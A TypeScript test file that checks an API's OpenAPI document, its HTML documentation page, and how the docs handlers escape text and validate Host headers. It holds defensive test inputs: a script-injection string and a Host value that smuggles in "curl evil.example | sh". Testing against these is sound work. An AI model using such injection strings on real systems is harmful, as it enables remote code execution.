import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import * as z from 'zod/mini';
import shownPage from '../../docs/api-page.json' with { type: 'json' };
import document from '../../docs/openapi.json' with { type: 'json' };
import { handler as getDocs } from '../../functions/get-docs.ts';
import { handler as getOpenapi } from '../../functions/get-openapi.ts';
import { handler as getRoot } from '../../functions/get-root.ts';
import { BillingError, PROBLEMS } from '../../lib/errors.ts';
import { allContracts } from '../../lib/http/contracts/index.ts';
import { Problem } from '../../lib/http/contracts/problems.ts';
import type { Handler } from '../../lib/http/handler.ts';
import { problemReply } from '../../lib/http/problem.ts';
import { type ApiDocument, callsOf, problemCodesOf } from '../../local/api-docs/api-document.ts';
import { apiPageText, exampleOf, openApiText } from '../../local/api-docs/generate.ts';
import { docsPage } from '../../local/api-docs/page.ts';
import { gatewayEvent, invocation } from '../support/gateway.ts';
import { call } from '../support/http.ts';

const calls = callsOf(document);
const routeOf = ({ method, path }: { method: string; path: string }) => `${method.toUpperCase()} ${path}`;

/** Every object in a JSON value, including the value itself. */
function objectsIn(value: unknown): Record<string, unknown>[] {
  if (typeof value !== 'object' || value === null) return [];
  const inside = Object.values(value).flatMap(objectsIn);
  return Array.isArray(value) ? inside : [{ ...value }, ...inside];
}

describe('the OpenAPI document', () => {
  it('the OpenAPI document is the one that the contracts make', () => {
    const stored = readFileSync('docs/openapi.json', 'utf8');
    expect(stored === openApiText(), 'docs/openapi.json is out of date: npm run openapi').toBe(true);
  });

  it('the page with the OpenAPI document is up to date', async () => {
    const stored = readFileSync('docs/api-page.json', 'utf8');
    expect(stored === (await apiPageText()), 'docs/api-page.json is out of date: npm run openapi').toBe(true);
  });

  it('the OpenAPI document contains everything that it refers to', () => {
    const references = objectsIn(document).flatMap(({ $ref }) => (typeof $ref === 'string' ? [$ref] : []));
    expect(references.length).toBeGreaterThan(0);
    for (const reference of new Set(references)) {
      const [, ...steps] = reference.split('/');
      const found = steps.reduce<unknown>(
        (at, step) => (typeof at === 'object' && at !== null ? new Map(Object.entries(at)).get(step) : at),
        document,
      );
      expect(found, reference).toBeTypeOf('object');
    }
  });

  it('the OpenAPI document describes exactly the deployed calls that are not pages', () => {
    const Deployed = z.object({
      functions: z.record(
        z.string(),
        z.object({
          events: z.optional(
            z.array(z.object({ httpApi: z.optional(z.object({ method: z.string(), path: z.string() })) })),
          ),
        }),
      ),
    });
    const file = Deployed.parse(parse(readFileSync('serverless.yml', 'utf8'), { logLevel: 'error' }));
    const deployed = Object.values(file.functions).flatMap(({ events = [] }) =>
      events.flatMap(({ httpApi }) => httpApi ?? []),
    );
    const ofPrograms = deployed.filter(({ path }) => !path.startsWith('/billing'));
    expect(calls.map(routeOf).sort()).toEqual(ofPrograms.map(routeOf).sort());
  });

  it('the OpenAPI document names every call once', () => {
    const names = calls.map(({ operationId }) => operationId);
    expect(new Set(names).size).toBe(names.length);
  });

  it.each(calls)(
    'the OpenAPI document describes $operationId completely',
    ({ path, parameters, security, responses, tags }) => {
      const inPath = parameters.filter((parameter) => parameter.in === 'path');
      expect(inPath.map(({ name }) => `{${name}}`)).toEqual(path.match(/\{\w+\}/g) ?? []);
      expect(inPath.every(({ required }) => required)).toBe(true);
      expect(document.tags.map(({ name }) => name)).toEqual(expect.arrayContaining([...tags]));
      const statuses = Object.keys(responses);
      expect(statuses).toEqual(expect.arrayContaining(['422', '500']));
      expect(statuses.some((status) => status < '400')).toBe(true);
      expect(statuses.includes('401')).toBe(security.length > 0);
    },
  );

  it('the OpenAPI document lists each problem under its own status', () => {
    for (const { status, codes } of calls.flatMap(problemCodesOf)) {
      for (const code of codes) expect(PROBLEMS).toHaveProperty([code, 'status'], Number(status));
    }
  });

  it('the OpenAPI document says that a body with an unknown field is rejected', () => {
    const bodies = calls.flatMap(({ requestBody }) => requestBody?.content['application/json']?.schema ?? []);
    expect(bodies).toHaveLength(allContracts.filter(({ body }) => body !== undefined).length);
    for (const body of bodies) expect(body).toMatchObject({ additionalProperties: false });
  });

  it('the OpenAPI document states the limits of requests: patterns, lengths, formats, defaults', () => {
    const onboarding = document.paths['/api/v1/customers/onboard'].post.requestBody;
    expect(onboarding.content['application/json'].schema).toMatchObject({
      required: ['name', 'email'],
      properties: {
        name: { minLength: 1, maxLength: 200 },
        email: { format: 'email', maxLength: 254 },
        source: { pattern: '^[a-z0-9_]{1,40}$', default: 'direct' },
      },
    });
    const limit = document.paths['/api/v1/transactions'].get.parameters[0];
    expect(limit).toMatchObject({
      name: 'limit',
      in: 'query',
      schema: { minimum: 1, maximum: 100, default: 50 },
    });
  });

  it('the OpenAPI document describes problems as they are sent', () => {
    const facts = { errors: [{ field: 'cursor', message: 'is required' }], credit_balance: 0 };
    const { body } = problemReply(new BillingError('invalid_request', 'cursor is required.', facts), 'id');
    expect(Problem.parse(body)).toEqual(body);
  });
});

describe('every example', () => {
  it.each(allContracts)('every example of $operationId is accepted by its own schema', (contract) => {
    const { params, query, body, responses } = contract;
    expect(params.safeParse(exampleOf(params)).error).toBeUndefined();
    expect(query.safeParse(exampleOf(query)).error).toBeUndefined();
    if (body !== undefined) expect(body.safeParse(exampleOf(body)).error).toBeUndefined();
    for (const { schema } of Object.values(responses)) {
      // The page is its own example.
      if (!(schema instanceof z.ZodMiniString))
        expect(schema.parse(exampleOf(schema))).toEqual(exampleOf(schema));
    }
  });

  it('every example of a problem is a problem', () => {
    expect(Problem.parse(exampleOf(Problem))).toEqual(exampleOf(Problem));
  });
});

describe('the documentation page', () => {
  const page = shownPage.html.join('https://api.example');

  it.each(calls)('the documentation page shows $operationId', ({ operationId, method, path }) => {
    expect(page).toContain(`<article id="${operationId}"`);
    expect(page).toContain(`${method.toUpperCase()}</span><span>${path}</span>`);
  });

  const answered: ReadonlySet<string> = new Set(
    calls.flatMap(problemCodesOf).flatMap(({ codes }) => [...codes]),
  );
  const problems = Object.entries(PROBLEMS);
  it.each(problems.filter(([code]) => answered.has(code)))(
    'the documentation page explains %s at the address in its problem document',
    (code, { title }) => {
      expect(page).toContain(`id="${code}"`);
      expect(page).toContain(`<span>${title}</span>`);
    },
  );

  it.each(problems.filter(([code]) => !answered.has(code)))(
    "the documentation page leaves out %s, which only operators' functions return",
    (code) => {
      expect(page).not.toContain(`id="${code}"`);
    },
  );

  it('the documentation page has unique ids and no broken link', () => {
    const places = [...page.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
    expect(new Set(places).size).toBe(places.length);
    const targets = [...page.matchAll(/href="#([^"]*)"/g)].map(([, id]) => id);
    expect(places).toEqual(expect.arrayContaining(targets));
  });

  it('the documentation page escapes all text', async () => {
    const markup = `</pre><script>alert("x" & 'y')</script>`;
    const hostile: ApiDocument = JSON.parse(JSON.stringify(document), (key, value: unknown) =>
      typeof value === 'string' && key !== '$ref' ? value + markup : value,
    );
    const shown = await docsPage(hostile);
    expect(shown).not.toContain('<script');
    expect(shown).not.toContain('"x"');
    expect(shown).toContain('&lt;script&gt;alert(&quot;x&quot; &amp; &#39;y&#39;)&lt;/script&gt;');
  });
});

describe('GET /openapi.json and GET /docs', () => {
  it('GET /openapi.json returns the document, which may be cached for five minutes', async () => {
    const { status, headers, body } = await call(getOpenapi);
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'application/json',
      'cache-control': 'public, max-age=300',
    });
    expect(body).toEqual(document);
  });

  it('GET /docs returns a page that may load only its own style', async () => {
    const { status, headers, body } = await call(wrapped(getDocs));
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'public, max-age=300',
    });
    const page = String(body['page']);
    const style = /<style>(.*?)<\/style>/s.exec(page)?.[1] ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    const policies = Object.entries(headers).filter(([name]) => /^content-security-policy$/i.test(name));
    expect(policies.map(([, policy]) => policy)).toEqual([
      `default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'`,
    ]);
    expect(page).not.toMatch(/<script|<link|<img|\ssrc=|\sstyle=|@import|url\(/);
  });

  it.each([
    ['localhost:4000', 'http://localhost:4000'],
    ['127.0.0.1:4000', 'http://127.0.0.1:4000'],
    ['[::1]:4000', 'http://[::1]:4000'],
    ['abc.execute-api.us-east-1.amazonaws.com', 'https://abc.execute-api.us-east-1.amazonaws.com'],
    ['API.rsolv.dev', 'https://api.rsolv.dev'],
  ])('the page read from %s has that address in its examples', async (host, address) => {
    const { body } = await call(wrapped(getDocs), { headers: { host } });
    expect(String(body['page'])).toContain(`export RSOLV_API=&#39;${address}&#39;`);
  });

  it.each([
    ["x'; curl evil.example | sh; '"],
    ['<script>alert(1)</script>'],
    ['two words.example'],
    ['user@evil.example'],
    ['evil.example/path'],
    [`${'a'.repeat(300)}.example`],
    [''],
  ])('the page repeats no Host header that is no host name: %s', async (host) => {
    const { status, body } = await call(wrapped(getDocs), { headers: { host } });
    expect(status).toBe(200);
    expect(String(body['page'])).toContain('export RSOLV_API=&#39;https://…&#39;');
    if (host !== '') expect(String(body['page'])).not.toContain(host);
  });

  it('GET / redirects to the documentation page', async () => {
    const { statusCode, headers } = await getRoot(gatewayEvent({}), invocation());
    expect(statusCode).toBe(302);
    expect(headers).toMatchObject({ location: '/docs', 'cache-control': 'public, max-age=300' });
  });

  it.each([
    ['document', getOpenapi],
    ['page', getDocs],
    ['redirect', getRoot],
  ])('a parameter that the %s does not have is rejected', async (_, handler) => {
    const { status, body } = await call(handler, { query: { format: 'yaml' } });
    expect(status).toBe(422);
    expect(body).toMatchObject({ code: 'invalid_request', errors: [{ field: 'format' }] });
  });

  /** Returns the page inside JSON, because the test's caller reads JSON. */
  function wrapped(handler: Handler): Handler {
    return async (event, context) => {
      const result = await handler(event, context);
      return { ...result, body: JSON.stringify({ page: result.body }) };
    };
  }
});
